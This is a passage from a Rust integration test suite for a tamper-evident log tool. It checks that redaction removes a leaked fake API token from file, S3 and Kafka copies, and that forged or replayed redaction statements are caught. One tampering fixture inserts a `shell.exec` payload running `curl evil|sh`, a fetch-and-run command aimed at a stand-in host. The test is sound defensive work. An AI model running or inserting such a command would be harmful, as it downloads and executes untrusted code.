//! Redaction (issue 51): a secret logged at one seq leaves every copy (a
//! file, an S3 prefix, a Kafka topic) and the database, and the log stays
//! evidence: every verifier given the redaction key names the seq as
//! redacted and passes; without the key, and for a tombstone no trusted
//! statement covers, it is the finding it always was. The statement itself
//! is attacked: forged, another origin's, replayed onto another seq, signed
//! by a key not trusted, a head key used as the redaction key.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::*;

const ORIGIN: &str = "red/agentrt";
const SECRET: &str = "sk_live_9f8e7d6c5b4a39281706";

/// A database whose seq 201 logs a secret, 20 events after it, and a
/// redaction key beside the head key.
struct Leaked {
    a: Anchored,
    seq: u64,
    red_key: PathBuf,
    red_vkey: String,
}

fn leaked() -> Leaked {
    let a = Anchored::new(200, ORIGIN);
    let payload = format!(r#"{{"goal":"call the billing API with Authorization: Bearer {SECRET}"}}"#);
    append_event(
        &a.db,
        "run-leak",
        "",
        "2026-12-06T10:00:00Z",
        "run.created",
        payload.as_bytes(),
    );
    append(&a.db, 20);
    let (red_key, red_vkey) = keygen(a.dir.path(), "erasure", "redaction.key");
    Leaked {
        a,
        seq: 201,
        red_key,
        red_vkey,
    }
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

fn assert_secret_nowhere_in(dir: &Path) {
    for path in files_under(dir) {
        assert!(
            !contains(&std::fs::read(&path).unwrap(), SECRET),
            "{} holds the secret",
            path.display()
        );
    }
}

fn redact(l: &Leaked, from: &[&str], extra: &[&str]) -> std::process::Output {
    let mut cmd = bin();
    cmd.args(["redact", "--anchor", &l.a.anchor_url(), "--origin", ORIGIN])
        .args([
            "--seq",
            &l.seq.to_string(),
            "--reason",
            "INC-77: a customer API token in the tool arguments",
        ])
        .args(["--signing-key", path_str(&l.red_key), "--trusted-key", &l.a.verifier])
        .args(from)
        .args(extra);
    s3_env(&mut cmd);
    cmd.output().unwrap()
}

/// `verify-export --json` of `from`, with `extra`: (exit code, JSON).
fn verify_export(l: &Leaked, from: &[&str], extra: &[&str]) -> (i32, Value) {
    let mut cmd = bin();
    cmd.arg("verify-export")
        .args(from)
        .args([
            "--anchor",
            &l.a.anchor_url(),
            "--origin",
            ORIGIN,
            "--trusted-key",
            &l.a.verifier,
            "--json",
        ])
        .args(extra);
    s3_env(&mut cmd);
    let out = cmd.output().unwrap();
    let json = serde_json::from_str(&stdout(&out)).unwrap_or_else(|e| panic!("{e}: {}{}", stdout(&out), stderr(&out)));
    (code(&out), json)
}

fn kinds_at(v: &Value) -> Vec<(String, Option<u64>)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["kind"].as_str().unwrap().to_owned(), f["seq"].as_u64()))
        .collect()
}

fn redacted_seqs(v: &Value) -> Vec<u64> {
    v["redacted"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["seq"].as_u64().unwrap())
        .collect()
}

/// Ships the database to `s3://BUCKET/exports`, anchored in the file store.
fn ship_to_s3(l: &Leaked, bucket: &str) {
    let shipped = s3_follow(
        &l.a.db,
        bucket,
        ORIGIN,
        &l.a.dir.path().join("cursor"),
        &["--from-start"],
    )
    .args([
        "--once",
        "--anchor",
        &l.a.anchor_url(),
        "--signing-key",
        path_str(&l.a.key),
    ])
    .output()
    .unwrap();
    assert_eq!(code(&shipped), 0, "{}", stderr(&shipped));
}

/// Ships the database to a file copy, anchored (heads, checkpoint, tiles).
fn ship_to_file(l: &Leaked) -> PathBuf {
    let copy = l.a.dir.path().join("copy.jsonl");
    let out = Follow::new(&l.a.db, ORIGIN)
        .file_sink(&copy)
        .cursor(&l.a.dir.path().join("cursor"))
        .start_at_seq_1()
        .once()
        .anchored(&l.a)
        .output();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(contains(&std::fs::read(&copy).unwrap(), SECRET));
    copy
}

#[test]
fn a_secret_leaves_a_file_copy_and_the_database_and_every_verifier_names_the_seq() {
    let l = leaked();
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let red = ["--redaction-key", l.red_vkey.as_str()];

    let out = redact(&l, &["--from", &from], &["--json"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let done: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(done["statement"], "redactions/00000000000000000201");
    assert_eq!(done["reused"], false);
    assert!(done["vouched_by"].as_str().unwrap().starts_with("checkpoint"), "{done}");
    // The secret is gone from the copy, and is nowhere in the store or the output.
    assert!(!contains(&std::fs::read(&copy).unwrap(), SECRET));
    assert_secret_nowhere_in(&l.a.anchors);
    assert!(!contains(&out.stdout, SECRET) && !contains(&out.stderr, SECRET));
    let tomb: Value = serde_json::from_str(
        std::fs::read_to_string(&copy)
            .unwrap()
            .lines()
            .find(|line| line.contains(r#""seq":201,"#))
            .unwrap(),
    )
    .unwrap();
    assert!(tomb.get("payload_json").is_none(), "{tomb}");
    assert_eq!(tomb["redacted"], "redactions/00000000000000000201");
    assert_eq!(tomb["type"], "run.created");
    assert_eq!(tomb["run_id"], "run-leak");

    // With the key: redacted, named, and passed. Without: altered at that seq, as always.
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
    assert_eq!(v["redacted"][0]["key"], "erasure");
    assert_eq!(
        v["redacted"][0]["reason"],
        "INC-77: a customer API token in the tool arguments"
    );
    let (rc, v) = verify_export(&l, &["--from", &from], &[]);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{v}");
    assert!(redacted_seqs(&v).is_empty());

    // A second run reuses the statement and finds the copy done.
    let again = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&again), 0, "{}", stderr(&again));
    assert!(stdout(&again).contains("kept already"), "{}", stdout(&again));

    // The database with the payload blanked by the runtime: passes with the key, and names the seq.
    let anchor_verify = |db: &Path, extra: &[&str]| {
        let out = bin()
            .args(["anchor", "verify", "--db", path_str(db), "--anchor", &l.a.anchor_url()])
            .args(["--origin", ORIGIN, "--trusted-key", &l.a.verifier, "--json"])
            .args(extra)
            .output()
            .unwrap();
        (code(&out), serde_json::from_str::<Value>(&stdout(&out)).unwrap())
    };
    tamper(&l.a.db)
        .execute("UPDATE events SET payload_json = '{}' WHERE seq = 201", [])
        .unwrap();
    let (rc, v) = anchor_verify(&l.a.db, &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
    let (rc, v) = anchor_verify(&l.a.db, &[]);
    assert_eq!(rc, 1, "{v}");
    assert!(
        kinds_at(&v).iter().any(|(k, s)| k == "altered" && *s == Some(201)),
        "{v}"
    );
    // The redacted copy and the blanked database are the same log to diff, with the key.
    let diff = bin()
        .args([
            "diff",
            "--db",
            path_str(&l.a.db),
            "--from",
            &from,
            "--anchor",
            &l.a.anchor_url(),
        ])
        .args(["--trusted-key", &l.a.verifier])
        .args(red)
        .output()
        .unwrap();
    assert_eq!(code(&diff), 0, "{}{}", stdout(&diff), stderr(&diff));
    // Another row blanked with it, which no statement covers: found.
    tamper(&l.a.db)
        .execute("UPDATE events SET payload_json = '{}' WHERE seq = 205", [])
        .unwrap();
    let (rc, v) = anchor_verify(&l.a.db, &red);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).iter().any(|(_, s)| *s == Some(205)), "{v}");

    // Restored from the redacted copy: the row gets a placeholder, and verifies with the key.
    let restored = l.a.dir.path().join("restored.db");
    let out = bin()
        .args([
            "restore",
            "--from",
            &from,
            "--anchor",
            &l.a.anchor_url(),
            "--trusted-key",
            &l.a.verifier,
        ])
        .args(["--out", path_str(&restored), "--json"])
        .args(red)
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}{}", stdout(&out), stderr(&out));
    let doc: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(doc["placeholders"], serde_json::json!([201]));
    assert!(!contains(&std::fs::read(&restored).unwrap(), SECRET));
    let (rc, v) = anchor_verify(&restored, &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
}

#[test]
fn statements_that_should_not_count_never_do() {
    let l = leaked();
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let red = ["--redaction-key", l.red_vkey.as_str()];
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let statements = l.a.anchors.join(ORIGIN).join("redactions");
    let kept = statements.join("00000000000000000201");
    let genuine = std::fs::read_to_string(&kept).unwrap();

    // A head key as the redaction key: refused, for the verifier and for redact.
    let out = bin()
        .args(["verify-export", "--from", &from, "--anchor", &l.a.anchor_url()])
        .args(["--trusted-key", &l.a.verifier, "--redaction-key", &l.a.verifier])
        .output()
        .unwrap();
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let out = bin()
        .args([
            "redact",
            "--anchor",
            &l.a.anchor_url(),
            "--origin",
            ORIGIN,
            "--seq",
            "203",
        ])
        .args([
            "--reason",
            "x",
            "--signing-key",
            path_str(&l.a.key),
            "--trusted-key",
            &l.a.verifier,
        ])
        .args(["--from", &from])
        .output()
        .unwrap();
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("trusted for heads"), "{}", stderr(&out));

    // A tombstone planted at seq 205 with no statement: altered, even with the key.
    let tombstoned = |seq: u64, statement: &str| {
        let text = std::fs::read_to_string(&copy).unwrap();
        let lines: Vec<String> = text
            .lines()
            .map(|line| {
                let mut r: Value = serde_json::from_str(line).unwrap();
                if r["seq"] == seq {
                    r.as_object_mut().unwrap().remove("payload_json");
                    r["redacted"] = statement.into();
                }
                r.to_string()
            })
            .collect();
        std::fs::write(&copy, lines.join("\n") + "\n").unwrap();
    };
    let pristine = std::fs::read(&copy).unwrap();
    tombstoned(205, "redactions/00000000000000000205");
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("altered".into(), Some(205))), "{v}");

    // A payload put back beside `redacted` (any content), or the tombstone naming another statement: altered.
    std::fs::write(&copy, &pristine).unwrap();
    let original = std::fs::read_to_string(&copy).unwrap();
    for (key, value) in [
        ("payload_json", r#"{"tool":"shell.exec","args":{"cmd":"curl evil|sh"}}"#),
        ("redacted", "redactions/00000000000000000202"),
    ] {
        let text: Vec<String> = original
            .lines()
            .map(|line| {
                let mut r: Value = serde_json::from_str(line).unwrap();
                if r["seq"] == 201 {
                    r[key] = value.into();
                }
                r.to_string()
            })
            .collect();
        std::fs::write(&copy, text.join("\n") + "\n").unwrap();
        let (rc, v) = verify_export(&l, &["--from", &from], &red);
        assert_eq!(rc, 1, "{key}: {v}");
        assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{key}: {v}");
    }
    std::fs::write(&copy, &pristine).unwrap();
    // A database row rewritten (not blanked) under a genuine statement: altered.
    let rewritten = l.a.dir.path().join("rewritten.db");
    std::fs::copy(&l.a.db, &rewritten).unwrap();
    tamper(&rewritten)
        .execute(
            r#"UPDATE events SET payload_json = '{"tool":"shell.exec"}' WHERE seq = 201"#,
            [],
        )
        .unwrap();
    let out = bin()
        .args([
            "anchor",
            "verify",
            "--db",
            path_str(&rewritten),
            "--anchor",
            &l.a.anchor_url(),
        ])
        .args(["--origin", ORIGIN, "--trusted-key", &l.a.verifier])
        .args(red)
        .output()
        .unwrap();
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    tombstoned(205, "redactions/00000000000000000205");

    // The genuine statement replayed onto seq 205: named, and 205 not accepted.
    std::fs::write(statements.join("00000000000000000205"), &genuine).unwrap();
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("redaction".into(), Some(201))), "{v}");
    assert!(kinds_at(&v).contains(&("altered".into(), Some(205))), "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
    std::fs::remove_file(statements.join("00000000000000000205")).unwrap();
    std::fs::write(&copy, &pristine).unwrap();

    // The statement's text changed after signing (another hash, another reason): forged.
    for (from_text, to_text) in [
        ("reason INC-77", "reason INC-78"),
        ("seq 201\nhash ", "seq 201\nhash 0"),
    ] {
        let forged = genuine.replacen(from_text, to_text, 1);
        assert_ne!(forged, genuine);
        std::fs::write(&kept, &forged).unwrap();
        let (rc, v) = verify_export(&l, &["--from", &from], &red);
        assert_eq!(rc, 1, "{v}");
        assert!(kinds_at(&v).contains(&("redaction".into(), Some(201))), "{v}");
        assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{v}");
        assert!(redacted_seqs(&v).is_empty());
    }
    std::fs::write(&kept, &genuine).unwrap();

    // Another origin's statement, signed by the same key, moved into this origin's folder.
    let other = Anchored::new(210, "other/agentrt");
    let other_copy = other.dir.path().join("copy.jsonl");
    let shipped = Follow::new(&other.db, "other/agentrt")
        .file_sink(&other_copy)
        .cursor(&other.dir.path().join("cursor"))
        .start_at_seq_1()
        .once()
        .args(["--anchor", &l.a.anchor_url(), "--signing-key", path_str(&other.key)])
        .output();
    assert_eq!(code(&shipped), 0, "{}", stderr(&shipped));
    let out = bin()
        .args([
            "redact",
            "--anchor",
            &l.a.anchor_url(),
            "--origin",
            "other/agentrt",
            "--seq",
            "201",
        ])
        .args([
            "--reason",
            "theirs",
            "--signing-key",
            path_str(&l.red_key),
            "--trusted-key",
            &other.verifier,
        ])
        .args(["--from", &format!("file:{}", path_str(&other_copy))])
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let theirs = l.a.anchors.join("other/agentrt/redactions/00000000000000000201");
    std::fs::copy(&theirs, &kept).unwrap();
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("redaction".into(), Some(201))), "{v}");
    assert!(redacted_seqs(&v).is_empty());
    std::fs::write(&kept, &genuine).unwrap();

    // Signed by a key the verifier does not trust for erasure: not accepted (a warning), altered.
    let (_, someone) = keygen(l.a.dir.path(), "someone", "someone.key");
    let (rc, v) = verify_export(&l, &["--from", &from], &["--redaction-key", &someone]);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{v}");
    assert!(v["warnings"].to_string().contains("no trusted redaction key"), "{v}");

    // A seq no trusted head or checkpoint vouches for yet: redact refuses (exit 1), nothing written.
    append(&l.a.db, 5);
    let out = bin()
        .args([
            "redact",
            "--anchor",
            &l.a.anchor_url(),
            "--origin",
            ORIGIN,
            "--seq",
            "223",
        ])
        .args([
            "--reason",
            "x",
            "--signing-key",
            path_str(&l.red_key),
            "--trusted-key",
            &l.a.verifier,
        ])
        .args(["--db", path_str(&l.a.db)])
        .output()
        .unwrap();
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("vouched for by no trusted"), "{}", stderr(&out));
    assert!(!statements.join("00000000000000000223").exists());
}

/// An S3 copy (versioned bucket): the object holding the record is
/// rewritten, its older version deleted; a bucket with Object Lock is refused.
#[tokio::test]
async fn a_secret_leaves_an_s3_copy() {
    let _services = services().await;
    let l = leaked();
    let bucket = bucket("redact").await;
    versioned(&bucket).await;
    let client = s3_client();
    ship_to_s3(&l, &bucket);
    let from = format!("s3://{bucket}/exports");
    let s3 = ["--s3-endpoint", &s3_endpoint(), "--s3-path-style"];
    let red = [
        "--redaction-key",
        l.red_vkey.as_str(),
        "--s3-endpoint",
        &s3_endpoint(),
        "--s3-path-style",
    ];

    let out = redact(&l, &["--from", &from], &s3);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(
        stdout(&out).contains("older version(s) holding the original deleted"),
        "{}",
        stdout(&out)
    );
    // Every version of every object: no secret.
    let versions = client.list_object_versions().bucket(&bucket).send().await.unwrap();
    for v in versions.versions() {
        let body = client
            .get_object()
            .bucket(&bucket)
            .key(v.key().unwrap())
            .version_id(v.version_id().unwrap())
            .send()
            .await
            .unwrap()
            .body
            .collect()
            .await
            .unwrap()
            .into_bytes();
        let plain = if v.key().unwrap().ends_with(".zst") {
            zstd::decode_all(&body[..]).unwrap()
        } else {
            let mut out = Vec::new();
            std::io::Read::read_to_end(&mut flate2::read::MultiGzDecoder::new(&body[..]), &mut out).unwrap();
            out
        };
        assert!(
            !contains(&plain, SECRET),
            "{} version {:?}",
            v.key().unwrap(),
            v.version_id()
        );
    }
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
    let (rc, v) = verify_export(&l, &["--from", &from], &s3);
    assert_eq!(rc, 1, "{v}");
    assert!(kinds_at(&v).contains(&("altered".into(), Some(201))), "{v}");

    // Object Lock keeps the original: refused in one line, nothing written.
    let locked = unique_bucket("redact-locked");
    client
        .create_bucket()
        .bucket(&locked)
        .object_lock_enabled_for_bucket(true)
        .send()
        .await
        .unwrap();
    let l2 = leaked();
    ship_to_s3(&l2, &locked);
    let out = redact(&l2, &["--from", &format!("s3://{locked}/exports")], &s3);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("Object Lock"), "{}", stderr(&out));
    assert_eq!(stderr(&out).trim().lines().count(), 1, "{}", stderr(&out));
}

on_both_brokers!(a_secret_leaves_a_kafka_copy_by_a_tombstone_and_the_follower_goes_on);

/// Kafka: the tombstone is appended (the original stays until retention);
/// verifiers take it as the record's redaction, and the follower, started
/// again after it, neither refuses nor resends.
async fn a_secret_leaves_a_kafka_copy_by_a_tombstone_and_the_follower_goes_on() {
    let _services = services().await;
    let l = leaked();
    let topic = kafka_topic("redact", 1).await;
    let cursor = l.a.dir.path().join("cursor");
    let anchored = ["--anchor", &l.a.anchor_url(), "--signing-key", path_str(&l.a.key)];
    let shipped = kafka_follow(&l.a.db, &topic, ORIGIN, &cursor, &["--from-start", "--once"])
        .args(anchored)
        .output()
        .unwrap();
    assert_eq!(code(&shipped), 0, "{}", stderr(&shipped));
    let from = format!("kafka://{}/{topic}", kafka_addr());
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).contains("retention"), "{}", stdout(&out));
    assert!(!contains(&out.stdout, SECRET) && !contains(&out.stderr, SECRET));
    let red = ["--redaction-key", l.red_vkey.as_str()];
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(redacted_seqs(&v), [201]);
    // The original is still in the topic: said, not hidden.
    assert!(v["warnings"].to_string().contains("still holds its payload"), "{v}");
    let (rc, v) = verify_export(&l, &["--from", &from], &[]);
    assert_eq!(rc, 1, "{v}");
    // The follower started again after the tombstone: goes on from its cursor.
    append(&l.a.db, 10);
    let again = kafka_follow(&l.a.db, &topic, ORIGIN, &cursor, &["--once"])
        .args(anchored)
        .output()
        .unwrap();
    assert_eq!(code(&again), 0, "{}", stderr(&again));
    let (rc, v) = verify_export(&l, &["--from", &from], &red);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(v["records"], 232, "{v}");
}

/// The monitor reads a redacted file copy: with the key the tombstone
/// passes and the verified seq reaches the head; without it, it is altered.
#[test]
fn the_monitor_takes_a_covered_tombstone_and_names_one_no_statement_covers() {
    let l = leaked();
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let watch = |name: &str, extra: &[&str]| {
        let dir = l.a.dir.path().join(name);
        let findings = l.a.dir.path().join(format!("{name}.jsonl"));
        let port = free_port();
        let child = bin()
            .args([
                "monitor",
                "--from",
                &from,
                "--anchor",
                &l.a.anchor_url(),
                "--origin",
                ORIGIN,
            ])
            .args(["--trusted-key", &l.a.verifier, "--state", path_str(&dir), "--json"])
            .args([
                "--store-interval",
                "300ms",
                "--metrics-addr",
                &format!("127.0.0.1:{port}"),
            ])
            .args(extra)
            .stdout(std::fs::File::create(&findings).unwrap())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut child = KillOnDrop(child);
        let series = format!("chainship_monitor_verified_seq{{origin=\"{ORIGIN}\"}}");
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        let mut verified = 0.0;
        while std::time::Instant::now() < deadline {
            verified = http_get(port, "/metrics", std::time::Duration::from_secs(2))
                .and_then(|(_, body)| metric(&body, &series))
                .unwrap_or(0.0);
            let found = std::fs::read_to_string(&findings).unwrap_or_default();
            if verified >= 221.0 || found.contains("\"seq\":201") {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(200));
        }
        signal(&child.0, SIGTERM);
        wait_with_limit(&mut child.0, std::time::Duration::from_secs(10));
        (verified, std::fs::read_to_string(&findings).unwrap())
    };
    let (verified, found) = watch("with-key", &["--redaction-key", &l.red_vkey]);
    assert_eq!(verified, 221.0, "{found}");
    assert!(found.trim().is_empty(), "{found}");
    let (verified, found) = watch("without-key", &[]);
    assert!(verified < 201.0, "{verified} {found}");
    assert!(
        found.contains("\"kind\":\"altered\"") && found.contains("\"seq\":201"),
        "{found}"
    );
}

/// A run's evidence carries the tombstone and its statement, never the
/// payload, whether built from the redacted copy or from the database that
/// still holds it; check-evidence accepts it only with the redaction key.
#[test]
fn a_runs_evidence_carries_the_tombstone_and_its_statement() {
    let l = leaked();
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let red = ["--redaction-key", l.red_vkey.as_str()];
    // Without the key the statement is not read: refused, nothing written (the database still holds the secret).
    let refused = l.a.dir.path().join("no-key");
    let out = bin()
        .args([
            "evidence",
            "--run",
            "run-leak",
            "--origin",
            ORIGIN,
            "--anchor",
            &l.a.anchor_url(),
        ])
        .args([
            "--trusted-key",
            &l.a.verifier,
            "--out",
            path_str(&refused),
            "--db",
            path_str(&l.a.db),
        ])
        .output()
        .unwrap();
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        stderr(&out).contains("--redaction-key") && !refused.exists(),
        "{}",
        stderr(&out)
    );
    for (name, source) in [
        ("from-copy", ["--from", from.as_str()]),
        ("from-db", ["--db", path_str(&l.a.db)]),
    ] {
        let bundle = l.a.dir.path().join(name);
        let out = bin()
            .args([
                "evidence",
                "--run",
                "run-leak",
                "--origin",
                ORIGIN,
                "--anchor",
                &l.a.anchor_url(),
            ])
            .args(["--trusted-key", &l.a.verifier, "--out", path_str(&bundle)])
            .args(source)
            .args(red)
            .output()
            .unwrap();
        assert_eq!(code(&out), 0, "{name}: {}{}", stdout(&out), stderr(&out));
        assert_secret_nowhere_in(&bundle);
        assert!(bundle.join("redactions/00000000000000000201").is_file(), "{name}");
        let check = |extra: &[&str]| {
            let out = bin()
                .args([
                    "check-evidence",
                    path_str(&bundle),
                    "--trusted-key",
                    &l.a.verifier,
                    "--json",
                ])
                .args(extra)
                .output()
                .unwrap();
            (
                code(&out),
                serde_json::from_str::<Value>(&stdout(&out)).unwrap_or(Value::Null),
                stdout(&out),
            )
        };
        let (rc, v, text) = check(&red);
        assert_eq!(rc, 0, "{name}: {text}");
        assert_eq!(redacted_seqs(&v), [201], "{name}: {text}");
        let (rc, _, text) = check(&[]);
        assert_eq!(rc, 1, "{name}: {text}");
        assert!(text.contains("tombstone"), "{name}: {text}");
    }
}

/// A rule the run check could not make because the payload it needs was
/// withheld passes nothing: `runs` is then not whole, never ok, whether the
/// placeholder is genuine or planted (`runs` reads no statement).
#[test]
fn a_withheld_payload_never_lets_the_run_check_say_ok() {
    let dir = tempfile::TempDir::new().unwrap();
    let db = generate_with(dir.path(), "a.db", 300, &["--inject", "started-without-decision@100"]);
    let runs = |db: &Path| {
        let out = bin().args(["runs", "--db", path_str(db), "--json"]).output().unwrap();
        (code(&out), serde_json::from_str::<Value>(&stdout(&out)).unwrap())
    };
    let (rc, v) = runs(&db);
    assert_eq!(rc, 1, "{v}");
    let seq = v["findings"][0]["seq"].as_u64().unwrap();
    tamper(&db)
        .execute(
            "UPDATE events SET payload_json = ?1 WHERE seq = ?2",
            rusqlite::params![format!(r#"{{"redacted":"redactions/{seq:020}"}}"#), seq as i64],
        )
        .unwrap();
    let (rc, v) = runs(&db);
    assert_eq!(rc, 1, "{v}");
    assert_eq!(v["status"], "not whole", "{v}");
    assert!(v["content_redacted_total"].as_u64().unwrap() >= 1, "{v}");
}

/// A file copy a running follower writes to is refused (its lock), after
/// the statement was kept; once the follower stops, the same command
/// finishes the copy with the statement kept, and the follower goes on.
#[test]
fn a_copy_a_follower_writes_is_refused_then_finished_by_the_same_command() {
    let l = leaked();
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let cursor = l.a.dir.path().join("cursor");
    let mut follower = KillOnDrop(
        Follow::new(&l.a.db, ORIGIN)
            .file_sink(&copy)
            .cursor(&cursor)
            .anchored(&l.a)
            .command()
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    // It holds the file's lock once it has read its copy back and goes on.
    let head = db_head(&l.a.db);
    wait_for_cursor(&cursor, &head, std::time::Duration::from_secs(30));
    std::thread::sleep(std::time::Duration::from_millis(300));
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("a follower is writing to it"), "{}", stderr(&out));
    assert!(
        contains(&std::fs::read(&copy).unwrap(), SECRET),
        "the copy is left as it was"
    );
    assert!(
        l.a.anchors
            .join(ORIGIN)
            .join("redactions/00000000000000000201")
            .is_file()
    );
    signal(&follower.0, SIGTERM);
    assert!(wait_with_limit(&mut follower.0, std::time::Duration::from_secs(20)).success());
    let again = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&again), 0, "{}", stderr(&again));
    assert!(stdout(&again).contains("kept already"), "{}", stdout(&again));
    assert!(!contains(&std::fs::read(&copy).unwrap(), SECRET));
    // The follower goes on after the rewritten file: new events, once each.
    append(&l.a.db, 5);
    let resumed = Follow::new(&l.a.db, ORIGIN)
        .file_sink(&copy)
        .cursor(&cursor)
        .once()
        .anchored(&l.a)
        .output();
    assert_eq!(code(&resumed), 0, "{}", stderr(&resumed));
    let (rc, v) = verify_export(&l, &["--from", &from], &["--redaction-key", &l.red_vkey]);
    assert_eq!(rc, 0, "{v}");
    assert_eq!(v["records"], 226, "{v}");
}

/// A run event whose payload was withheld, then left out of a bundle and
/// passed off as another run's under `--with-gaps`: its tombstone alone
/// reveals nothing (it does not hash to its entry), its tombstone with the
/// store's statement and the redaction key shows the run's event withheld.
#[test]
fn a_redacted_event_passed_off_as_another_run_s_is_revealed_by_its_tombstone_and_statement() {
    let a = Anchored::new(200, ORIGIN);
    let payload = format!(r#"{{"note":"Authorization: Bearer {SECRET}"}}"#);
    append_event(&a.db, "run-mid", "", "2026-12-06T10:00:00Z", "run.created", b"{}");
    append_event(
        &a.db,
        "run-mid",
        "",
        "2026-12-06T10:00:01Z",
        "agent.note",
        payload.as_bytes(),
    );
    append_event(&a.db, "run-mid", "", "2026-12-06T10:00:02Z", "agent.note", b"{}");
    append(&a.db, 5);
    let (red_key, red_vkey) = keygen(a.dir.path(), "erasure", "redaction.key");
    let l = Leaked {
        a,
        seq: 202,
        red_key,
        red_vkey,
    };
    let copy = ship_to_file(&l);
    let from = format!("file:{}", path_str(&copy));
    let out = redact(&l, &["--from", &from], &[]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let bundle = l.a.dir.path().join("bundle");
    let out = bin()
        .args([
            "evidence",
            "--run",
            "run-mid",
            "--origin",
            ORIGIN,
            "--anchor",
            &l.a.anchor_url(),
        ])
        .args([
            "--trusted-key",
            &l.a.verifier,
            "--out",
            path_str(&bundle),
            "--from",
            &from,
        ])
        .args(["--with-gaps", "--redaction-key", &l.red_vkey])
        .output()
        .unwrap();
    assert_eq!(code(&out), 0, "{}{}", stdout(&out), stderr(&out));
    let line = |seq: u64| -> String {
        std::fs::read_to_string(&copy)
            .unwrap()
            .lines()
            .find(|l| serde_json::from_str::<Value>(l).unwrap()["seq"] == seq)
            .unwrap()
            .to_owned()
    };
    let tombstone = line(202);
    assert!(tombstone.contains("\"redacted\""), "{tombstone}");
    // The withholder takes the tombstone and its statement out, and passes seq 202 off as another run's.
    let records = std::fs::read_to_string(bundle.join("records.jsonl")).unwrap();
    let kept: String = records
        .lines()
        .filter(|l| serde_json::from_str::<Value>(l).unwrap()["seq"] != 202)
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(bundle.join("records.jsonl"), kept).unwrap();
    std::fs::remove_dir_all(bundle.join("redactions")).unwrap();
    let gaps = std::fs::read_to_string(bundle.join("gaps.txt")).unwrap();
    assert!(gaps.starts_with("204"), "{gaps}");
    std::fs::write(bundle.join("gaps.txt"), format!("202\n{gaps}")).unwrap();
    let rendered = l.a.dir.path().join("rendered");
    let out = bin()
        .args(["check-evidence", path_str(&bundle), "--trusted-key", &l.a.verifier])
        .args(["--render", path_str(&rendered)])
        .output()
        .unwrap();
    assert_ne!(code(&out), 2, "{}", stderr(&out));
    for name in ["run.json", "report.html", "README.txt"] {
        std::fs::copy(rendered.join(name), bundle.join(name)).unwrap();
    }
    let check = |extra: &[&str]| {
        let out = bin()
            .args([
                "check-evidence",
                path_str(&bundle),
                "--trusted-key",
                &l.a.verifier,
                "--with-gaps",
                "--json",
            ])
            .args(extra)
            .output()
            .unwrap();
        (code(&out), stdout(&out), stderr(&out))
    };
    let (rc, text, _) = check(&[]);
    assert_eq!(rc, 0, "the event is passed off: {text}");
    let (rc, _, err) = check(&["--reveal", "202", "--record", &tombstone]);
